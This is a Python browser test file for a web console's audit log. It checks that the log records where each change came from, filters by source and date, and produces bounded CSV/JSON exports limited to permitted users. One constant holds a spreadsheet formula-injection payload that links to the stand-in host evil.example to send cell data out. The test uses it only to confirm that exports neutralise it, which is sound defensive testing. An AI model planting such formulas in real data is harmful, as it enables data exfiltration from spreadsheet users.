"""The audit log in Chromium: where each change came from (console, REST API, shell) with
the client address, sign-ins and failed sign-ins, a date range, and CSV/JSON exports that
are streamed, bounded, and safe to open in a spreadsheet."""

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
import requests
from django.utils import timezone
from playwright.sync_api import expect
from rest_framework.authtoken.models import Token

from accounts.roles import Role
from apis.models import Api
from core import changes
from core.audit_context import audit_source, process_source
from core.models import AuditEvent
from tests.console.browser import ConsoleServer, screenshot
from tests.personas import staff_member

TIMEOUT_MS = 30_000
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def site(transactional_db):
    server = ConsoleServer()
    yield server
    server.stop()


def test_the_audit_log_says_where_each_change_came_from_and_exports_it(browser, site, settings):
    ada = staff_member("ada", Role.ADMINISTRATOR, password="pw-ada-1")
    token = Token.objects.create(user=ada).key
    old = AuditEvent.objects.create(
        actor_name="someone", action="update", object_type="api", object_repr="Legacy v0"
    )
    AuditEvent.objects.filter(pk=old.pk).update(created_at=datetime(2020, 1, 15, 12, tzinfo=UTC))
    context = browser.new_context(base_url=site.url, viewport={"width": 1280, "height": 900})
    context.set_default_timeout(TIMEOUT_MS)
    expect.set_options(timeout=TIMEOUT_MS)
    page = context.new_page()

    # A failed sign-in whose "username" is a spreadsheet formula, then a real one.
    page.goto("/console/login/")
    page.fill("#id_username", FORMULA)
    page.fill("#id_password", "guess")
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator(".errorlist, .form-errors").first).to_be_visible()
    page.fill("#id_username", "ada")
    page.fill("#id_password", "pw-ada-1")
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("heading", name="Dashboard")).to_be_visible()

    # One change from each surface: console, REST API, shell.
    page.goto("/console/apis/new/")
    page.fill("#api-name", "Console made")
    page.fill("#api-version", "v1")
    page.fill("#api-base_path", "/console-made/v1")
    page.fill("#api-upstream_url", "http://127.0.0.1:9/")
    page.get_by_role("button", name="Create API").click()
    expect(page.locator(".messages")).to_contain_text("Console made v1 created.")
    response = requests.post(
        f"{site.url}/api/v1/apis/",
        json={
            "name": "Rest made",
            "version": "v1",
            "base_path": "/rest-made/v1",
            "upstream_url": "http://127.0.0.1:9/",
        },
        headers={"Authorization": f"Token {token}"},
        timeout=10,
    )
    assert response.status_code == 201, response.text
    with audit_source(process_source(["manage.py", "shell"])):
        changes.save(
            Api(
                name="Shell made",
                version="v1",
                base_path="/shell-made/v1",
                upstream_url="http://127.0.0.1:9/",
            ),
            actor="root",
        )

    origin = {e.object_repr: (e.source, e.client_address) for e in AuditEvent.objects.all()}
    assert origin["Console made v1"] == ("console", "127.0.0.1")
    assert origin["Rest made v1"] == ("rest", "127.0.0.1")
    assert origin["Shell made v1"] == ("shell", None)
    assert origin["Legacy v0"] == ("", None)  # events from before the field stay readable

    page.goto("/console/audit/")
    rows = page.locator("table").first.locator("> tbody > tr")
    expect(rows.filter(has_text="Console made v1")).to_contain_text("Console")
    expect(rows.filter(has_text="Console made v1")).to_contain_text("127.0.0.1")
    expect(rows.filter(has_text="Rest made v1")).to_contain_text("REST API")
    expect(rows.filter(has_text="Shell made v1")).to_contain_text("Shell")
    expect(rows.filter(has_text="login-failed")).to_contain_text("HYPERLINK")
    expect(rows.filter(has_text="ada").filter(has_text="login").first).to_be_visible()
    screenshot(page, "audit-origin")

    # Filter by where the change came from.
    page.select_option("#audit-source", "rest")
    page.get_by_role("button", name="Filter").click()
    expect(rows).to_have_count(1)
    expect(rows).to_contain_text("Rest made v1")

    # A date range, both ends included.
    page.goto("/console/audit/")
    page.fill("#audit-date_to", "2020-01-15")
    page.get_by_role("button", name="Filter").click()
    expect(rows).to_have_count(1)
    expect(rows).to_contain_text("Legacy v0")
    today = timezone.localdate().isoformat()
    page.goto(f"/console/audit/?date_from={today}")
    expect(rows.filter(has_text="Legacy v0")).to_have_count(0)
    expect(rows.filter(has_text="Shell made v1")).to_have_count(1)

    # CSV export of the filtered view, downloaded by the browser.
    with page.expect_download() as caught:
        page.get_by_role("link", name="Export CSV").click()
    download = caught.value
    assert download.suggested_filename.endswith(".csv")
    table = list(csv.DictReader(io.StringIO(Path(download.path()).read_text(encoding="utf-8"))))
    reprs = [row["object_repr"] for row in table]
    assert "Legacy v0" not in reprs and "Rest made v1" in reprs
    rest_row = next(row for row in table if row["object_repr"] == "Rest made v1")
    assert (rest_row["source"], rest_row["client_address"]) == ("rest", "127.0.0.1")
    # The typed formula is exported as text, never as something a spreadsheet runs.
    failed = next(row for row in table if row["action"] == "login-failed")
    assert failed["object_repr"] == "'" + FORMULA
    assert not any(value.startswith("=") for row in table for value in row.values())

    # JSON export, bounded: the newest N, and a header saying rows were left out.
    settings.GATEWAY_AUDIT_EXPORT_MAX_ROWS = 3
    answer = page.request.get("/console/audit/export.json")
    assert answer.status == 200
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-export-truncated"] == "true"
    assert answer.headers["cache-control"] == "no-store"
    events = json.loads(answer.body())
    assert [event["object_repr"] for event in events] == [
        "Shell made v1",
        "Rest made v1",
        "Console made v1",
    ]
    answer = page.request.get("/console/audit/export.json?source=rest")
    assert answer.headers["x-export-truncated"] == "false"
    assert len(json.loads(answer.body())) == 1
    assert page.request.get("/console/audit/export.xml").status == 404


def test_exports_need_the_audit_role(site, transactional_db):
    staff_member("nobody", None, password="pw-nobody")
    session = requests.Session()
    # Anonymous: sent to sign in, nothing exported.
    response = session.get(f"{site.url}/console/audit/export.csv", allow_redirects=False)
    assert response.status_code == 302
    assert "/console/login/" in response.headers["Location"]
